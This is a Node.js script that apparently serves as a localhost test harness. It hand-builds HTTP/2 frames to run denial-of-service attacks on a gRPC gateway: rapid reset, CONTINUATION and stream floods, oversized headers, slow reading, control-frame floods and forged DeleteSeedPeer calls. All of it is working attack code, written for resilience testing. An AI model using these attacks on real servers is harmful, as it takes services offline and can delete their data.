// One attack, in a process of its own, so that what it costs is not charged to those who call meanwhile:
//   node attacker.mjs ATTACK PORT CONNECTIONS COUNT SECONDS
// Ends by itself after COUNT rounds or SECONDS, whichever is first, and prints {"rounds": …, "closed": …}: how often it struck, and how
// often it was cut off. Only 127.0.0.1 is ever dialled.
import net from 'node:net';

const [attack, port, connections, count, seconds] = process.argv.slice(2);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const DATA = 0;
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const ACK = 1;
const END_HEADERS = 4;
const LIST = '/manager.v2.Manager/ListSchedulers';
const DELETE = '/manager.v2.Manager/DeleteSeedPeer';

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const hello = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]);
// HPACK, never indexed and without Huffman coding; lengths beyond 126 in the long form.
const length = (size) => {
  if (size < 127) return Buffer.from([size]);
  const bytes = [127];
  for (let rest = size - 127; ; rest >>= 7) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest & 127) | 128);
  }
};
const text = (value) => Buffer.concat([length(value.length), Buffer.from(value)]);
const field = (name, value) => Buffer.concat([Buffer.from([0x10]), text(name), text(value)]);
const block = (path, more = []) =>
  Buffer.concat([
    ...[
      [':method', 'POST'],
      [':scheme', 'http'],
      [':authority', 'gateway'],
      [':path', path],
      ['content-type', 'application/grpc'],
      ['te', 'trailers'],
      ...more,
    ].map(([name, value]) => field(name, value)),
  ]);
const message = (bytes) => {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
};
const protoText = (number, value) =>
  Buffer.concat([Buffer.from([(number << 3) | 2, value.length]), Buffer.from(value)]);
const call = (stream, path, bytes) =>
  Buffer.concat([
    frame(HEADERS, END_HEADERS, stream, block(path)),
    frame(DATA, END_STREAM, stream, message(bytes)),
  ]);
const random = () => Math.random().toString(36).slice(2, 12);
const LARGEST = 16_000;
const update = Buffer.alloc(4);
update.writeUInt32BE(1);
const calm = frame(SETTINGS, 0, 0);

/** What is sent in one round on a connection, whose streams are 1, 3, 5, …; `once`: what is sent after the preface, and then nothing. */
const ATTACKS = {
  'rapid-reset': {
    round: (stream) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, stream, block(LIST)),
        frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])),
      ]),
  },
  continuation: {
    first: () => frame(HEADERS, 0, 1, block(LIST)),
    round: () => frame(CONTINUATION, 0, 1, field(`x-${random()}`, 'x'.repeat(1_000))),
  },
  'stream-flood': { round: (stream) => frame(HEADERS, END_HEADERS, stream, block(LIST)) },
  'large-headers': {
    round(stream) {
      const whole = block(LIST, [['x-large', 'x'.repeat(60_000)]]);
      const parts = [];
      for (let at = 0; at < whole.length; at += LARGEST) {
        const last = at + LARGEST >= whole.length;
        const flags = (last ? END_HEADERS : 0) | (at === 0 ? END_STREAM : 0);
        parts.push(frame(at === 0 ? HEADERS : CONTINUATION, flags, stream, whole.subarray(at, at + LARGEST)));
      }
      return Buffer.concat(parts);
    },
  },
  'idle-sockets': { hello: (index) => (index % 2 === 0 ? Buffer.alloc(0) : hello.subarray(0, 12)) },
  ping: { round: () => frame(PING, 0, 0, Buffer.alloc(8)) },
  settings: { round: () => calm },
  window: { round: () => frame(WINDOW_UPDATE, 0, 0, update) },
  'slow-reader': { round: (stream) => call(stream, '/no.such.Service/Large', Buffer.alloc(1)), reads: false },
  'random-keys': { round: (stream) => call(stream, LIST, protoText(2, random())), inFlight: 200 },
  'forged-delete': {
    round: (stream) =>
      call(stream, DELETE, Buffer.concat([Buffer.from([8, 1]), protoText(2, `seed-${random()}`)])),
    inFlight: 200,
  },
};

const {
  hello: helloOf = () => hello,
  first,
  round,
  reads = true,
  inFlight = Infinity,
} = ATTACKS[attack] ?? {};
const endAt = performance.now() + Number(seconds) * 1000;
let left = Number(count);
let rounds = 0;
let closed = 0;
/** Who does not read is dangerous by staying. */
const over = () => performance.now() >= endAt || (left <= 0 && reads);
/** Rounds per write: system calls are not what is to be measured. */
const BATCH = 50;

function connection(index) {
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), '127.0.0.1');
    let stream = 1;
    let alive = true;
    socket.on('error', () => {});
    socket.once('close', () => {
      alive = false;
      if (!over()) closed += 1;
      resolve();
    });
    let open = 0;
    let rest = Buffer.alloc(0);
    let waiting = false;
    if (!reads) socket.pause();
    else if (inFlight === Infinity) socket.resume();
    else
      socket.on('data', (chunk) => {
        rest = Buffer.concat([rest, chunk]);
        while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
          const ended =
            rest[3] === RST_STREAM || ((rest[3] === HEADERS || rest[3] === DATA) && rest[4] & END_STREAM);
          if (ended) open -= 1;
          // Or it would be cut for its silence before it has done its worst.
          if (rest[3] === PING && (rest[4] & ACK) === 0)
            socket.write(frame(PING, ACK, 0, rest.subarray(9, 17)));
          rest = rest.subarray(9 + rest.readUIntBE(0, 3));
        }
        if (waiting) strike();
      });
    const strike = () => {
      if (!alive) return;
      if (over()) {
        socket.destroy();
        return;
      }
      if (round === undefined) {
        setTimeout(strike, 100);
        return;
      }
      const batch = [];
      waiting = false;
      for (let at = 0; at < BATCH && left > 0 && open < inFlight; at++) {
        open += 1;
        batch.push(round(stream));
        stream += 2;
        left -= 1;
        rounds += 1;
      }
      // What cannot be sent because the other side takes nothing more is no attack on it.
      if (batch.length === 0 && open >= inFlight) waiting = true;
      else if (batch.length === 0) setTimeout(strike, 100);
      else if (socket.write(Buffer.concat(batch))) setImmediate(strike);
      else socket.once('drain', strike);
      // One that never reads fills no socket of ours: it waits for its time to end.
      if (socket.writableNeedDrain)
        setTimeout(() => over() && socket.destroy(), Math.max(0, endAt - performance.now()));
    };
    socket.once('connect', () => {
      socket.write(helloOf(index));
      if (first) socket.write(first());
      if (round === undefined) rounds += 1;
      strike();
    });
  });
}

async function attacker(index) {
  // Who is cut off comes back at once.
  while (!over()) await connection(index);
}

await Promise.all(Array.from({ length: Number(connections) }, (_, index) => attacker(index)));
process.stdout.write(`${JSON.stringify({ rounds, closed })}\n`);
